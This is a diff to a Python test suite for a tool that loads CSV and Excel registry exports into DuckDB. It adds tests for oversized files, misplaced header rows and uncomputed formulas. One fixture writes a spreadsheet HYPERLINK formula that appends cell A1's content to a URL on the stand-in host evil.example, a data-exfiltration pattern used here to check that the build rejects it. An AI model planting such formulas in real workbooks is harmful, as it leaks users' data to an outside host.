@@ -219,6 +219,35 @@ def bad_status_in_a_workbook_with_a_title_row(frames, folder):
     workbook.save(folder / "registro.xlsx")
 
 
+def workbook(frames, folder, skip_rows: int = 0, title: bool = True):
+    book = openpyxl.Workbook()
+    book.remove(book.active)
+    for name, frame in frames.items():
+        sheet = book.create_sheet(name)
+        for _ in range(skip_rows):
+            sheet.append([])
+        if title:
+            sheet.append(["Registro IAPT"])
+            sheet.append([])
+        sheet.append(frame.columns)
+        for row in frame.iter_rows():
+            sheet.append(list(row))
+    return book
+
+
+def formula_with_no_saved_result(frames, folder):
+    """A workbook written by a program: the formula is there, its result was never computed (openpyxl saves none)."""
+    book = workbook(frames, folder)
+    book["initiatives"]["B5"] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
+    book.save(folder / "registro.xlsx")
+
+
+def bad_status_in_a_workbook_below_empty_rows(frames, folder):
+    """The fast reader starts at the first row holding a value: the rows above still count."""
+    frames["initiatives"] = set_cell(frames["initiatives"], "CO-02", "borrador", "status")
+    workbook(frames, folder, skip_rows=3, title=False).save(folder / "registro.xlsx")
+
+
 CASES: list[tuple[Callable, str, int, str, str, str]] = [
     # what is wrong, file, row, column, the value reported, the reason (a part of it)
     (swapped_coordinates_in_a_semicolon_file_with_a_title, "initiatives.csv", 12, "latitude", "-70.3975, -23.6509",
@@ -259,6 +288,7 @@ CASES: list[tuple[Callable, str, int, str, str, str]] = [
     (file_named_for_no_table, "firms.csv", 0, "", "", "no 'firms' file or sheet (not recognised: firmas_2025.csv)"),
     (damaged_workbook, "registro.xlsx", 0, "", "", "cannot be opened as an .xlsx workbook"),
     (bad_status_in_a_workbook_with_a_title_row, "registro.xlsx[initiatives]", 5, "status", "borrador", "not an allowed value"),
+    (bad_status_in_a_workbook_below_empty_rows, "registro.xlsx[initiatives]", 6, "status", "borrador", "not an allowed value"),
 ]
 
 
@@ -326,3 +356,38 @@ def test_the_build_date_decides_what_is_in_the_future(fixture_export, tmp_path):
     assert build(fixture_export, tmp_path / "a.duckdb", today=FIXTURE_TODAY).ok
     early = build(fixture_export, tmp_path / "b.duckdb", today=dt.date(2025, 9, 1))
     assert {(p.row, p.column) for p in early.problems} == {(13, "registered_on")}  # CL-04 registered on 2025-09-30
+
+
+def test_a_file_too_large_is_refused_before_it_is_read(fixture_export, tmp_path, monkeypatch):
+    from analytics import reader
+
+    export = tmp_path / "export"
+    shutil.copytree(fixture_export, export)
+    largest = max(export.glob("*.csv"), key=lambda path: path.stat().st_size)
+    limit = largest.stat().st_size - 1
+    monkeypatch.setattr(reader, "MAX_FILE_BYTES", limit)
+    read_bytes = Path.read_bytes
+
+    def refusing(path: Path) -> bytes:
+        assert path.stat().st_size <= limit, f"{path.name} was read whole"
+        return read_bytes(path)
+
+    monkeypatch.setattr(Path, "read_bytes", refusing)
+    problems = reader.read_export(export).problems
+    assert [(p.file, p.reason) for p in problems] == [(largest.name, f"the file is larger than {limit:,} bytes, the most a build reads")]
+
+
+def test_a_formula_with_no_saved_result_stops_the_build_even_when_skipping(fixture_export, fixture_db, tmp_path):
+    """Its value is unknown, not empty: loading it as 0 or as a blank would change the registry silently."""
+    export = tmp_path / "export"
+    export.mkdir()
+    formula_with_no_saved_result(tables(fixture_export), export)
+    live = tmp_path / "live.duckdb"
+    shutil.copy(fixture_db, live)
+    before = digest(live)
+    for skip_invalid in (False, True):
+        result = build(export, live, today=FIXTURE_TODAY, skip_invalid=skip_invalid)
+        assert not result.ok and digest(live) == before
+        [problem] = [p for p in result.problems if "formula with no saved result" in p.reason]
+        assert (problem.file, problem.row, problem.column) == ("registro.xlsx[initiatives]", 5, "B")
+        assert problem.value.startswith('=HYPERLINK("http://evil.example/?"')
